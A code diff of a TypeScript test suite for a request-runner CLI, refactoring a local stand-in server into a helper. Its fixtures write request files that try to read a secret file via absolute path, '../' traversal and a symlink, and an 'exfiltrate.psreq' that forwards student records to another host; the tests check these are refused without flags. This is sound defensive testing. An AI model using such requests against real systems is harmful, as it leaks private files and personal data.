@@ -1,9 +1,8 @@
 import * as assert from 'node:assert/strict';
 import { mkdirSync, mkdtempSync, readdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
-import { createServer, type Server } from 'node:http';
-import type { AddressInfo } from 'node:net';
 import { tmpdir } from 'node:os';
 import { basename, join, resolve } from 'node:path';
+import { startOtherHost, type OtherHost } from '../../support/otherHost';
 import { startSandbox, type SandboxHandle } from '../../../src/sandbox';
 import { psdev } from '../../support/psdev';
 
@@ -83,24 +82,10 @@ describe('psdev run', () => {
   });
 
   describe('what a file may send (issue 13, item 2)', () => {
-    let other: Server;
-    let otherUrl: string;
-    const arrived: string[] = [];
-    before(async () => {
-      other = createServer((request, response) => {
-        let body = '';
-        request.on('data', (chunk: Buffer) => (body += chunk));
-        request.on('end', () => {
-          arrived.push(`${request.method} ${request.url} ${body}`);
-          response.setHeader('Content-Type', 'application/json');
-          response.end('{"ok":true}');
-        });
-      });
-      await new Promise<void>((resolve) => other.listen(0, '127.0.0.2', resolve));
-      otherUrl = `http://127.0.0.2:${(other.address() as AddressInfo).port}`;
-    });
+    let other: OtherHost;
+    before(async () => (other = await startOtherHost()));
     after(() => other.close());
-    beforeEach(() => arrived.splice(0));
+    beforeEach(() => other.arrived.splice(0));
 
     it('reads < file bodies only inside the file\'s folder tree unless --allow-outside', async () => {
       const outside = mkdtempSync(join(tmpdir(), 'psdev-outside-'));
@@ -111,32 +96,32 @@ describe('psdev run', () => {
         writeFileSync(join(project, 'bodies', 'ok.json'), '{"ok":1}');
         symlinkSync(join(outside, 'secret.txt'), join(project, 'bodies', 'link.txt'));
         const file = join(project, 'send.psreq');
-        writeFileSync(file, `POST ${otherUrl}/in\n\n< ./bodies/ok.json\n\n###\nPOST ${otherUrl}/abs\n\n< ${join(outside, 'secret.txt')}\n\n###\nPOST ${otherUrl}/up\n\n< ../../${basename(outside)}/secret.txt\n\n###\nPOST ${otherUrl}/link\n\n< ./bodies/link.txt\n`);
+        writeFileSync(file, `POST ${other.url}/in\n\n< ./bodies/ok.json\n\n###\nPOST ${other.url}/abs\n\n< ${join(outside, 'secret.txt')}\n\n###\nPOST ${other.url}/up\n\n< ../../${basename(outside)}/secret.txt\n\n###\nPOST ${other.url}/link\n\n< ./bodies/link.txt\n`);
         const refused = await psdev(['run', file], env);
         assert.equal(refused.code, 1);
-        assert.deepEqual(arrived, [`POST /in {"ok":1}`]);
+        assert.deepEqual(other.arrived, [`POST /in {"ok":1}`]);
         const errors = refused.stderr.split('\n').filter((line) => / error: /.test(line));
         assert.equal(errors.length, 3, refused.stderr);
         for (const line of errors) assert.match(line, /send\.psreq:\d+:3: error: not sent: the body file .*secret\.txt is outside .*project\. Pass --allow-outside to read it\.$/);
-        arrived.splice(0);
+        other.arrived.splice(0);
         const allowed = await psdev(['run', file, '--allow-outside'], env);
         assert.equal(allowed.code, 0, allowed.stderr);
-        assert.deepEqual(arrived.map((line) => line.split(' ').slice(1).join(' ')), ['/in {"ok":1}', '/abs outside-secret', '/up outside-secret', '/link outside-secret']);
+        assert.deepEqual(other.arrived.map((line) => line.split(' ').slice(1).join(' ')), ['/in {"ok":1}', '/abs outside-secret', '/up outside-secret', '/link outside-secret']);
       } finally {
         rmSync(outside, { recursive: true, force: true });
       }
     });
 
     it('refuses data from a response to another host without --yes, naming the host', async () => {
-      const file = write('exfiltrate.psreq', `# @name students\nGET /ws/v1/district/student?pagesize=2\n\n###\nPOST ${otherUrl}/f\nContent-Type: application/json\n\n{{students.response.body.students}}\n`);
+      const file = write('exfiltrate.psreq', `# @name students\nGET /ws/v1/district/student?pagesize=2\n\n###\nPOST ${other.url}/f\nContent-Type: application/json\n\n{{students.response.body.students}}\n`);
       const refused = await psdev(['run', file], env);
       assert.equal(refused.code, 1);
       assert.match(refused.stderr, /exfiltrate\.psreq:5:1: error: not sent: This request sends data from the response of 'students' \(read from 'env'\) to 127\.0\.0\.2:\d+, another server\. \(pass --yes to send it\)/);
-      assert.deepEqual(arrived, []);
+      assert.deepEqual(other.arrived, []);
       const sent = await psdev(['run', file, '--yes'], env);
       assert.equal(sent.code, 0, sent.stderr);
-      assert.equal(arrived.length, 1);
-      assert.match(arrived[0], /^POST \/f \{.*"student":\[\{"id":\d+/);
+      assert.equal(other.arrived.length, 1);
+      assert.match(other.arrived[0], /^POST \/f \{.*"student":\[\{"id":\d+/);
     });
   });
 });
